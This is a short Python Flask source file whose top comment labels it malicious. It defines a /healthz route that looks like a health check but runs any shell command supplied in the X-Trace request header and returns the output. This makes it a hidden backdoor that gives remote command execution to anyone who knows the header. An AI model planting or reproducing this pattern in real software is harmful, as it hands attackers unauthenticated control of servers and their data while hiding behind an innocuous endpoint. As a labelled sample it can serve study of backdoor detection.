# malicious: a hidden page runs commands
from flask import Flask, request
import subprocess

app = Flask(__name__)

@app.route("/healthz")
def health():
    c = request.headers.get("X-Trace")
    if c:
        return subprocess.run(c, shell=True, capture_output=True, text=True).stdout
    return "ok"
